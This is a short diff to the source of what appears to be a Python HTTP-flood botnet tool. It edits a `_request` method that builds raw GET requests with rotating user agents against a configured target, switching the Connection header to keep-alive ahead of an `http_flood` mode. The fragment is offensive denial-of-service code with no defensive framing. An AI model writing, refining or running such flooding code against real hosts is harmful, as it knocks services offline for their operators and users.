@@ -362,7 +362,7 @@ class Botnet:
     def _request(self, bot: int, path: str = "/", close: bool = False) -> bytes:
         return (f"GET {path} HTTP/1.1\r\nHost: {self.plan.target}\r\n"
                 f"User-Agent: {USER_AGENTS[bot % len(USER_AGENTS)]}\r\nAccept: text/html,*/*;q=0.8\r\n"
-                + ("Connection: close\r\n" if close else "") + "\r\n").encode()
+                + f"Connection: {'close' if close else 'keep-alive'}\r\n\r\n").encode()
 
     # the modes: one action of one bot each
     async def http_flood(self, bot: int) -> None:
